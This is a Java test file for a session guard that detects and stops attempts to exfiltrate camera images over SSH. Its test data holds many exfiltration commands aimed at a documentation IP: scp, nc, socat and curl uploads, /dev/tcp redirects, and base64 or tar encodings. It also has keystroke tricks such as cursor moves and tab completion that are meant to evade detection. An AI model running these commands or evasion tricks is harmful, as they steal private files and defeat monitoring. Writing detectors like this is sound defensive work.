package org.sallyport.policy.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class StreamGuardTest {
  private static final InstantSource EPOCH = InstantSource.fixed(Instant.EPOCH);

  private static StreamGuard guard(boolean pty) {
    return new StreamGuard(GuardRules.defaults(), pty, EPOCH);
  }

  private static GuardVerdict type(StreamGuard g, String keys) {
    byte[] b = keys.getBytes(StandardCharsets.ISO_8859_1);
    GuardVerdict worst = null;
    for (int i = 0; i < b.length; i++) { // one keystroke per chunk, as a terminal sends them
      GuardVerdict v = g.input(b, i, 1);
      if (worst == null || v.action().compareTo(worst.action()) > 0) {
        worst = v;
      }
    }
    return worst;
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "scp /var/cam/face.jpg me@203.0.113.9:\r",
    "sftp me@203.0.113.9\r",
    "rsync -a /var/cam/ me@203.0.113.9:/x\r",
    "cd /tmp && nc 203.0.113.9 9000 < face.jpg\r",
    "ncat -l 9000 < face.jpg\r",
    "socat - TCP:203.0.113.9:9000 < face.jpg\r",
    "tftp -p -l face.jpg 203.0.113.9\r",
    "busybox ftpput 203.0.113.9 face.jpg\r",
    "/usr/bin/scp a b:\r",
    "sudo scp a b:\r",
    "curl -T face.jpg http://203.0.113.9/\r",
    "curl -F file=@face.jpg http://203.0.113.9/up\r",
    "curl --data-binary @face.jpg http://x/\r",
    "wget --post-file=face.jpg http://x/\r",
    "cat face.jpg > /dev/tcp/203.0.113.9/9000\r",
    "python3 -m http.server 8000\r",
  })
  void transferToolsEndTheSession(String keys) {
    GuardVerdict v = type(guard(true), keys);
    assertThat(v.action()).as(keys).isEqualTo(GuardAction.TERMINATE);
    assertThat(v.ruleId()).startsWith("default.input.");
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "base64 /var/cam/face.jpg\r",
    "cat face.jpg | base64\r",
    "xxd face.jpg\r",
    "od -An -t x1 face.jpg\r",
    "hexdump -C face.jpg\r",
    "uuencode face.jpg f\r",
    "openssl enc -aes-256-cbc -in face.jpg -a\r",
    "openssl base64 -in face.jpg\r",
    "dd if=/dev/mtdblock3 bs=1k\r",
    "tar cz /var/cam\r",
    "tar -czf - /var/cam\r",
    "gzip -c face.jpg\r",
    "zip - face.jpg\r",
    "cat /var/cam/face0001.jpg\r",
    "head -c 100000 snapshot.mp4\r",
  })
  void encodersAndArchiversAreBlocked(String keys) {
    GuardVerdict v = type(guard(true), keys);
    assertThat(v.action()).as(keys).isEqualTo(GuardAction.BLOCK);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "cat /proc/version\r",
    "tail -n 50 /var/log/messages\r",
    "ip addr show\r",
    "ping -c 3 192.168.1.1\r",
    "traceroute 192.168.1.1\r",
    "vi /etc/ipcam.conf\r",
    "cat > /etc/ipcam.conf <<'EOF'\rntp_server=pool.ntp.org\rftp_enabled=0\rEOF\r",
    "reboot\r",
    "dmesg | tail\r",
    "tar xzf firmware.tgz -C /tmp\r",
    "dd if=firmware.bin of=/dev/mtdblock2 bs=64k\r",
    "grep -i error /var/log/syslog | wc -l\r",
    "echo done; uptime\r",
    "journalctl -u camera --no-pager -n 200\r",
    "cat /etc/ssh/sshd_config | grep -v '^#'\r",
  })
  void maintenanceCommandsPass(String keys) {
    assertThat(type(guard(true), keys).action()).as(keys).isEqualTo(GuardAction.PASS);
  }

  @Test
  void backspaceAndLineKillsAreFollowed() {
    // "sc" + DEL DEL + "ls" submits "ls"; ctrl-U kills a typed scp; ctrl-W deletes its last word
    assertThat(type(guard(true), "sc\u007f\u007fls\r").action()).isEqualTo(GuardAction.PASS);
    assertThat(type(guard(true), "scp a b:\u0015ls\r").action()).isEqualTo(GuardAction.PASS);
    assertThat(type(guard(true), "ls scpx\u0017\r").action()).isEqualTo(GuardAction.PASS);
    // backspacing "ls" into "scp" is seen
    assertThat(type(guard(true), "lsx\b\b\bscp a b:\r").action()).isEqualTo(GuardAction.TERMINATE);
    // ctrl-C abandons the line
    assertThat(type(guard(true), "scp a b:\u0003ls\r").action()).isEqualTo(GuardAction.PASS);
  }

  @Test
  void tabCompletionOfAToolNameIsJudgedConservatively() {
    GuardVerdict v = type(guard(true), "sc\t/var/cam/face.jpg me@203.0.113.9:\r");
    assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
    assertThat(v.match()).contains("scp");
    // tab completion of a file name does not matter
    assertThat(type(guard(true), "cat /var/log/mess\t\r").action()).isEqualTo(GuardAction.PASS);
  }

  @Test
  void cursorMovesAreFollowed() {
    // type "p a b:", move to start (ctrl-A / Home / arrows), type "sc": the shell runs "scp a b:"
    assertThat(type(guard(true), "p a b:\u0001sc\r").action()).isEqualTo(GuardAction.TERMINATE);
    assertThat(type(guard(true), "p a b:\u001b[Hsc\r").action()).isEqualTo(GuardAction.TERMINATE);
    assertThat(type(guard(true), "p a b:\u001b[D\u001b[D\u001b[D\u001b[D\u001b[D\u001b[Dsc\r").action())
        .isEqualTo(GuardAction.TERMINATE);
    // "lsx" left, Delete => "ls" ... then End and " -l"
    assertThat(type(guard(true), "scpx\u0001\u001b[3~\u001b[3~\u001b[3~\r").action())
        .isEqualTo(GuardAction.PASS);
  }

  @Test
  void untrackedEditsFallBackToTheTypedCharacters() {
    // ctrl-T transposes: "csp" + ctrl-T at "s|p" could make "cps"... judged on what was typed too
    assertThat(type(guard(true), "xcp a b:\u0001\u0014\u001b[3~s\r").action())
        .isNotEqualTo(GuardAction.PASS);
  }

  @Test
  void bracketedPasteJudgesEveryPastedLine() {
    GuardVerdict v = type(guard(true), "\u001b[200~ls\rscp x y:\r\u001b[201~");
    assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
  }

  @Test
  void verdictCarriesOffsetOfTheSubmittingByte() {
    StreamGuard g = guard(true);
    byte[] b = "ls\rscp a b:\r".getBytes(StandardCharsets.US_ASCII);
    GuardVerdict v = g.input(b, 0, b.length);
    assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
    assertThat(v.offset()).isEqualTo(b.length - 1);
    assertThat(v.ruleId()).isEqualTo("default.input.transfer-tool");
    // sticky
    assertThat(g.input(new byte[] {'l'}, 0, 1)).isEqualTo(v);
  }

  @Test
  void theAuditedMatchNamesTheToolButNotItsArguments() {
    GuardVerdict v = type(guard(true), "curl -u vendor:Sup3rSecret -T face.jpg http://203.0.113.9/\r");
    assertThat(v.ruleId()).isEqualTo("default.input.http-upload");
    assertThat(v.match()).isEqualTo("curl");
    GuardVerdict w = type(guard(true), "ls; curl -uvendor:Sup3rSecret -T face.jpg http://x/\r");
    assertThat(w.match()).isEqualTo("curl");
    assertThat(type(guard(true), "sudo scp a b:\r").match()).isEqualTo("sudo scp");
  }

  @Test
  void withoutATerminalBlockBecomesTerminate() {
    assertThat(type(guard(false), "base64 face.jpg\n").action()).isEqualTo(GuardAction.TERMINATE);
  }

  @Test
  void overlongLinesStayBoundedAndTheTailIsStillJudged() {
    String filler = ": " + "a".repeat(100_000) + ";scp face.jpg x:\r";
    GuardVerdict v = type(guard(true), filler);
    assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
  }

  @Test
  void channelDefaultsAllowShellAndExecOnly() {
    StreamGuard g = guard(true);
    assertThat(g.channelRequest(ChannelKind.SHELL, null).passed()).isTrue();
    assertThat(g.channelRequest(ChannelKind.EXEC, "uptime").passed()).isTrue();
    for (ChannelKind k : List.of(ChannelKind.SUBSYSTEM, ChannelKind.SCP, ChannelKind.PORT_FORWARD,
        ChannelKind.AGENT, ChannelKind.X11)) {
      GuardVerdict v = g.channelRequest(k, "x");
      assertThat(v.action()).as(k.wireName()).isEqualTo(GuardAction.BLOCK);
      assertThat(v.ruleId()).isEqualTo("default.channel." + k.wireName());
    }
    assertThat(StreamGuard.classify("exec", "scp -t /tmp")).isEqualTo(ChannelKind.SCP);
    assertThat(StreamGuard.classify("exec", "scp -f /var/cam/face.jpg")).isEqualTo(ChannelKind.SCP);
    GuardVerdict exec = g.channelRequest(ChannelKind.EXEC, "cat /var/cam/x | base64");
    assertThat(exec.action()).isEqualTo(GuardAction.BLOCK);
    assertThat(exec.ruleId()).isEqualTo("default.input.encode-file");
  }

  @Test
  void nothingMatchesMeansDeny() {
    GuardRules none = new GuardRules(List.of(), List.of(), GuardRules.defaults().output());
    GuardVerdict v = new StreamGuard(none, true, EPOCH).channelRequest(ChannelKind.SHELL, null);
    assertThat(v.action()).isEqualTo(GuardAction.BLOCK);
    assertThat(v.ruleId()).isEqualTo(GuardRules.RULE_CHANNEL_DEFAULT);
  }

  @Test
  void outputDetectorsTerminateAtTheCompletingByte() {
    StreamGuard g = guard(true);
    byte[] text = "total 3\r\n-rw-r--r-- 1 root root 12 face.jpg\r\n".getBytes(StandardCharsets.US_ASCII);
    assertThat(g.output(text, 0, text.length).passed()).isTrue();
    byte[] jpeg = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 0x10, 'J', 'F', 'I', 'F'};
    GuardVerdict v = g.output(jpeg, 0, jpeg.length);
    assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
    assertThat(v.ruleId()).isEqualTo("default.output.binary");
    assertThat(v.match()).isEqualTo("image.jpeg");
    assertThat(v.offset()).isEqualTo(text.length + 3);
  }

  @Test
  void detectorsAlsoWatchInput() {
    byte[] b64 = ("/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8U\r")
        .getBytes(StandardCharsets.US_ASCII);
    GuardVerdict v = guard(true).input(b64, 0, b64.length);
    assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
    assertThat(v.match()).isEqualTo("base64.image.jpeg");
  }

  @Test
  void volumeCapsCountOutputAndErrorTogether() {
    AtomicLong now = new AtomicLong();
    InstantSource clock = () -> Instant.ofEpochMilli(now.get());
    GuardRules rules = new GuardRules(List.of(), List.of(), new OutputRules(List.of(),
        org.sallyport.policy.detect.DetectorConfig.withDefaults(),
        List.of(new VolumeCap("cap", 1000, 10, Duration.ofSeconds(10), GuardAction.TERMINATE))));
    StreamGuard g = new StreamGuard(rules, true, clock);
    byte[] chunk = new byte[90];
    assertThat(g.output(chunk, 0, 90).passed()).isTrue();
    now.addAndGet(11_000); // a new rate window
    assertThat(g.error(chunk, 0, 90).passed()).isTrue();
    assertThat(g.output(chunk, 0, 20).action()).isEqualTo(GuardAction.TERMINATE); // 110 > 100 per window
    StreamGuard total = new StreamGuard(rules, true, clock);
    for (int i = 0; i < 12; i++) {
      now.addAndGet(11_000); // every chunk in a fresh rate window: only the total counts
      GuardVerdict v = total.output(chunk, 0, 90);
      if (90L * (i + 1) <= 1000) {
        assertThat(v.passed()).isTrue();
      } else {
        assertThat(v.ruleId()).isEqualTo("cap");
        assertThat(v.reason()).contains("exceeds 1000 bytes");
        assertThat(v.offset()).isEqualTo(1000); // the first byte beyond the cap
      }
    }
  }

  @Test
  void invalidRulesAreRefusedNamingTheRule() {
    assertThatThrownBy(() -> new InputRule("bad", "scp(", GuardAction.BLOCK, "r"))
        .hasMessageContaining("rule bad: invalid pattern");
    assertThatThrownBy(() -> new InputRule("x", "a", GuardAction.PASS, "r"))
        .hasMessageContaining("input rule x: action must be BLOCK or TERMINATE");
    assertThatThrownBy(() -> ChannelKind.of("telnet")).hasMessageContaining("unknown channel kind 'telnet'");
    var d = GuardRules.defaults();
    assertThatThrownBy(() -> new GuardRules(List.of(d.channels().get(0), d.channels().get(0)),
        List.of(), d.output())).hasMessageContaining("duplicate guard rule id 'default.channel.shell'");
  }
}
